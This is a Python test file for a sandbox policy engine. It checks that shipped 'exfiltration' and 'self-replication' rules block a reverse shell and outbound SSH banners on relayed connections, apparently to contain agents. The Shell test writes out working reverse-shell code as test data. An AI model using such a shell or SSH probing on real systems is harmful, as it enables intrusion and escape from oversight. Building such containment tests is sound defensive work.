#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Rules of the policies that ship, tried on connections that the relay really carries: what arrives outside judges."""

import json
import os
import pathlib
import unittest

import net_testing
from cordon_testing import NO_TRACE, TRACE, wait_for
from net_testing import SERVER, NetTest, NameServer

POLICIES = pathlib.Path(__file__).resolve().parents[2] / "policies"
ALLOW_ALL = {"exec": "allow", "net.connect": "allow", "net.send": "allow"}


class Shipped(NetTest):
    """A rule of them at a time; without it the same gets out, which shows that it is the rule which holds."""

    def setUp(self):
        super().setUp()
        self.got = []

    def hears(self, says=b""):
        """A server that says that first, and keeps what it is told."""
        def serve(connection):
            connection.sendall(says)
            while data := connection.recv(1 << 16):
                self.got.append(data)
        return self.server(serve)

    def rule_of(self, family, rule, **lists):
        """That rule alone; without one: whatever is asked for may be."""
        shipped = json.loads((POLICIES / f"{family}.json").read_text())
        rules = [r for r in shipped["rules"] if r["id"] == rule]
        self.assertEqual(len(rules), bool(rule))
        more = {"macros": shipped["macros"], "lists": {**shipped["lists"], **lists}} if rule else {}
        self.rules = self.policy(*rules, defaults=ALLOW_ALL, **more)

    def refused(self, rule):
        return [e for e in self.events() if e.get("rule") == rule and e.get("verdict") == "deny"]

    def heard(self, text):
        return text in b"".join(self.got)


@unittest.skipUnless(TRACE == "on", NO_TRACE)  # else nobody tells whose input and output a program has
class Shell(Shipped):
    """A shell on a connection: it would say what it is told to outside."""

    SAY = """
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in 0, 1: os.dup2(s.fileno(), fd)
try: os.execv("/bin/sh", ["sh"])
except OSError as e: os.write(2, errno.errorcode[e.errno].encode())
"""

    def run_shell(self, rule):
        del self.got[:]
        self.rule_of("exfiltration", rule)
        outside = self.hears(b"echo shell-$((40 + 2)); exit\n")
        return self.python(self.SAY, SERVER, outside.port)

    def test_on_a_relayed_connection(self):
        self.run_shell(None)
        wait_for(lambda: self.heard(b"shell-42"))
        done = self.run_shell("ex.program-on-egress")
        self.assertIn(b"EPERM", done.stderr)
        self.assertEqual([e["fields"]["path"] for e in self.refused("ex.program-on-egress")], [os.path.realpath("/bin/sh")])
        self.assertFalse(self.heard(b"shell"))


class Remote(Shipped):
    """Another machine is spoken to, by whatever port, in pieces or not."""

    BANNERS = ((b"SSH-2.0-probe\r\n",), (b"SS", b"H-2.0-probe", b"\r\n"), (b"SSH-1.99-probe\n",))
    SAY = """
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for piece in eval(sys.argv[3]): s.sendall(piece); time.sleep(0.3)
    s.recv(1)
except OSError as e: print(errno.errorcode[e.errno])
"""

    def speak(self, to, banner):
        """The server is done as soon as it has a line, so that the program ends."""
        def serve(connection):
            while (data := connection.recv(1 << 16)) and not self.got.append(data):
                if self.heard(b"\n"):
                    return
        del self.got[:]
        return self.python(self.SAY, to, self.server(serve).port, repr(banner), timeout=60)

    def test_as_for_a_shell(self):
        for banner in self.BANNERS:
            with self.subTest(banner):
                self.rule_of("self-replication", None)
                self.speak(SERVER, banner)
                self.assertTrue(self.heard(b"\n"))
                self.rule_of("self-replication", "sr.remote-spoken")
                self.speak(SERVER, banner)
                # What may be the first word of anything goes when nothing follows it; a server waits for its end.
                self.assertFalse(self.heard(b"\n"))
                self.assertEqual(len(self.refused("sr.remote-spoken")), 1)

    def test_where_the_task_says_so(self):
        names = NameServer({"machine.example": [SERVER]})
        self.addCleanup(names.close)
        self.rule_of("self-replication", "sr.remote-spoken", ssh_destinations=["git@machine.example"])
        net = super().net
        self.net = lambda private=NetTest.ALLOWED: (*net(private), f"--resolver={names.address}")
        self.speak("machine.example", self.BANNERS[0])
        self.assertTrue(self.heard(b"probe"))
        self.speak(SERVER, self.BANNERS[0])
        self.assertFalse(self.heard(b"\n"))

    def test_what_is_no_such_thing(self):
        self.rule_of("self-replication", "sr.remote-spoken")
        for said in ((b"ssh-2.0-probe\r\n",), (b"EHLO probe\r\n",)):
            self.speak(SERVER, said)
            self.assertTrue(self.heard(b"probe"))


class LineEndsFirst(Shipped):
    """finger asks for all with an empty line and waits for the answer; field 1 of a message of protobuf begins with LF."""

    SAY = """
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
s.sendall(eval(sys.argv[3]))
print(s.recv(100))
"""

    def test_they_arrive(self):
        for said in (b"\r\n", b"\r\nroot\r\n", b"\n\x05hello\x12\x01x"):
            with self.subTest(said):
                server = self.server(lambda c: c.sendall(b"got " + c.recv(100)))
                done = self.python(self.SAY, SERVER, server.port, repr(said), timeout=60)
                self.assertEqual(done.stdout.decode().strip(), repr(b"got " + said), done.stderr)


if __name__ == "__main__":
    net_testing.enter()
    unittest.main()
